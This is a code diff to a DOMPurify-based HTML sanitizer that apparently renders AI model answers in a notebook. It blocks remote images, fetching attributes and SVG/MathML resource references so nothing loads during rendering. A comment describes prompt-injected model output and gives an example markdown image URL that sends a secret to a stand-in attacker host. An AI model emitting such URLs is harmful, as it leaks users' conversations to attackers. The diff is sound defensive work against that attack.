@@ -20,7 +20,10 @@ const CONFIG = Object.freeze({
   // carry HTML, stays out.)
   ADD_TAGS: ['semantics', 'annotation'],
   ADD_ATTR: ['encoding'],
-  FORBID_ATTR: ['autofocus', 'formaction', 'ping', 'srcset', 'accesskey', 'tabindex'],
+  // srcset/poster/background would fetch by themselves (see "Nothing loads" below).
+  FORBID_ATTR: [
+    'autofocus', 'formaction', 'ping', 'srcset', 'poster', 'background', 'accesskey', 'tabindex',
+  ],
   ALLOW_DATA_ATTR: false,
   // Ids/names get a `user-content-` prefix so model HTML cannot clobber page globals.
   SANITIZE_NAMED_PROPS: true,
@@ -48,6 +51,29 @@ const STYLE_PROPERTIES = new Set([
 const STYLE_VALUE_CHARS = /^[#\w\s.,%+*\/()-]*$/;
 const SAFE_POSITIONS = new Set(['relative', 'absolute', 'static']);
 
+// Nothing loads while an answer renders. A remote URL in model output is written by the
+// model, and a prompt-injected model can put the conversation in it
+// (`![x](https://attacker/?q=<secret>)`): an image the browser fetches by itself sends it
+// without a click. So:
+// - <img> keeps only an inline raster data: image; any other becomes a placeholder with
+//   its alt text and the URL as an ordinary link (see blockedImage);
+// - SVG/MathML elements keep an href only on SVG <a> (a link) or as a same-document
+//   `#fragment` (drops <image>, <feImage>, <pattern>, gradients, <textPath>, <mpath>,
+//   <tref> sources), lose `src` (<mglyph>), and lose attributes whose CSS value could
+//   name a resource (`fill="url(…)"`, `filter`, `mask`, `clip-path`, `marker-*`…);
+// - srcset, poster and background are forbidden above, and so are <picture>'s <source>,
+//   <video>, <audio>, <input type=image>, <link>, frames and <style>; inline styles
+//   cannot hold url() (filterStyle). KaTeX runs with trust:false (markdown.js), so
+//   \includegraphics renders as an error, not an <img>.
+// data:image/svg+xml stays out too: it is safe as an <img> in today's browsers (no
+// script, no sub-resources), but that rests on the browser, and models have no need of it.
+const SAFE_DATA_IMAGE = /^data:image\/(?:png|jpe?g|gif|webp|avif|bmp)[;,]/i;
+const LINK_REL = 'noopener noreferrer nofollow';
+const HTML_NAMESPACE = 'http://www.w3.org/1999/xhtml';
+const SVG_NAMESPACE = 'http://www.w3.org/2000/svg';
+// A CSS value that could name a resource, or hide one behind an escape (`u\72l(`).
+const CSS_RESOURCE = /\\|(?:url|image|image-set|cross-fade|element|src)\s*\(/i;
+
 export function createSanitizer(window) {
   const purify = createDOMPurify(window);
   // A persistent config: passing it per call makes DOMPurify rebuild its allow-lists
@@ -62,14 +88,91 @@ export function createSanitizer(window) {
       if (kept) node.setAttribute('style', kept);
       else node.removeAttribute('style');
     }
-    // Links open outside the notebook, and the opened page gets no handle on it.
-    if (node.nodeName === 'A' && node.hasAttribute('href')) {
-      node.setAttribute('target', '_blank');
-      node.setAttribute('rel', 'noopener noreferrer');
+    if (node.namespaceURI !== HTML_NAMESPACE) {
+      neutraliseForeign(node);
+      return;
+    }
+    const name = node.nodeName;
+    if ((name === 'A' || name === 'AREA') && node.hasAttribute('href')) makeLinkSafe(node);
+    else if (name === 'IMG' && !SAFE_DATA_IMAGE.test(node.getAttribute('src') ?? '')) {
+      // DOMPurify walks on from here, so it also sanitises the placeholder.
+      node.replaceWith(blockedImage(node));
     }
   });
   /** Sanitised DocumentFragment of an HTML string. */
   return (html) => purify.sanitize(html);
+}
+
+// Links open outside the notebook, the opened page gets no handle on it and no referrer,
+// and search engines are told not to follow them.
+function makeLinkSafe(link) {
+  link.setAttribute('target', '_blank');
+  link.setAttribute('rel', LINK_REL);
+}
+
+/**
+ * What stands in for an <img> that would fetch: its alt text and, for an http(s) source,
+ * the URL as a link (a click is the user's choice; nothing is fetched before it):
+ *
+ *   <span class="gw-blocked-image" title="Image not loaded: URL">
+ *     alt (<a href="URL">image from host</a> not loaded)
+ *   </span>
+ *
+ * Inside a link (`[![badge](img)](page)`) the URL is plain text: links do not nest.
+ * A relative, attachment: or javascript: source was already removed by DOMPurify (it
+ * would resolve against the Jupyter server), so only the alt text is left to show.
+ */
+function blockedImage(img) {
+  const document = img.ownerDocument;
+  const src = img.getAttribute('src') ?? '';
+  const alt = (img.getAttribute('alt') ?? '').trim();
+  const text = (content) => document.createTextNode(content);
+  const box = document.createElement('span');
+  box.className = 'gw-blocked-image'; // markdown.css draws a picture icon before it
+  if (alt) box.append(text(`${alt} (`));
+  const host = /^https?:/i.test(src) ? hostOf(src) : null;
+  if (host !== null) {
+    box.setAttribute('title', `Image not loaded: ${src}`);
+    const label = `image from ${host || 'the web'}`;
+    if (img.parentElement?.closest('a')) {
+      box.append(text(label));
+    } else {
+      const link = document.createElement('a');
+      link.setAttribute('href', src);
+      link.textContent = label;
+      makeLinkSafe(link);
+      box.append(link);
+    }
+    box.append(text(' not loaded'));
+  } else {
+    box.setAttribute('title', 'Image not loaded');
+    box.append(text('image not loaded'));
+  }
+  if (alt) box.append(text(')'));
+  return box;
+}
+
+function hostOf(url) {
+  try {
+    return new URL(url).host;
+  } catch {
+    return '';
+  }
+}
+
+// SVG and MathML: keep links and same-document references, drop anything that fetches.
+function neutraliseForeign(node) {
+  const isLink = node.localName === 'a' && node.namespaceURI === SVG_NAMESPACE;
+  const attributes = node.attributes;
+  for (let i = attributes.length - 1; i >= 0; i--) {
+    const { name, localName, value } = attributes[i];
+    if (localName === 'href') {
+      if (!value.startsWith('#') && !isLink) node.removeAttribute(name);
+    } else if (localName === 'src' || (localName !== 'style' && CSS_RESOURCE.test(value))) {
+      node.removeAttribute(name);
+    }
+  }
+  if (isLink && (node.hasAttribute('href') || node.hasAttribute('xlink:href'))) makeLinkSafe(node);
 }
 
 function filterStyle(style) {
